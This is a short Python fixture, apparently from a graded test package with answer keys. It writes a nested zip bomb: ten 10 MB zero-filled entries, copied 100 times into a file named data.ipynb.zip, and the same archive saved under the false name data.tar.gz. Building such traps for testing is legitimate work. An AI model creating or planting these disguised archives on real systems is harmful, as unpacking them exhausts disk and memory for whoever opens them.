# Archives that grow a thousandfold, one in another.
# kind: files
# points: q1=2 q2=3 q3=4
# answers: q1-twin q2-twin
# function: yes
import zipfile


def place(folder):
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"x{number}", b"0" * 10_000_000)
    inner = (folder / "bomb.zip").read_bytes()
    with zipfile.ZipFile(folder / "data.ipynb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(100):
            archive.writestr(f"{number}.zip", inner)
    (folder / "data.tar.gz").write_bytes(inner)
